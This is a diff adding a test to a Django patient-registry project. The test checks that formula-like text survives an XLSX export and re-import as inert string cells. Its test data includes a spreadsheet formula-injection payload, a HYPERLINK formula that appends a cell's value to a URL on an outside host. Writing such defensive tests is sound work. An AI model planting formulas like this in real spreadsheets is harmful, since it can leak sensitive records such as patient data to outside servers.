@@ -17,6 +17,7 @@ from registry.models import (
     BoardMeeting,
     Centre,
     Patient,
+    ProgressionEvent,
     TreatmentLine,
 )
 
@@ -155,6 +156,26 @@ def test_round_trip_of_the_demo_registry_in_both_formats(tmp_path, django_user_m
     before = counts()
     call_command("import_cases", *csv_files, user=root.username)
     assert counts() == before  # the tables hold exactly the same cases
+
+
+def test_text_that_looks_like_a_formula_survives_an_xlsx_round_trip(data_manager, case_a):
+    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
+    ProgressionEvent.objects.filter(patient=case_a.patient).update(notes=formula)
+    Patient.objects.filter(pk=case_a.patient.pk).update(given_name="=1+1")
+    content = exchange.tables_to_xlsx(
+        exchange.cases_to_tables(document_of(case_a.patient)["cases"])
+    )
+
+    sheet = openpyxl.load_workbook(io.BytesIO(content))["progression_events"]
+    notes = next(cell for cell in sheet[2] if cell.value == formula)
+    result = exchange.import_cases(
+        exchange.read_xlsx(content), user=data_manager, dry_run=False, reason="test"
+    )
+
+    assert notes.data_type == "s"  # text, which no spreadsheet runs
+    assert result.ok and not sum(result.updated.values())
+    assert ProgressionEvent.objects.get(patient=case_a.patient).notes == formula
+    assert Patient.objects.get(pk=case_a.patient.pk).given_name == "=1+1"
 
 
 @pytest.mark.parametrize(
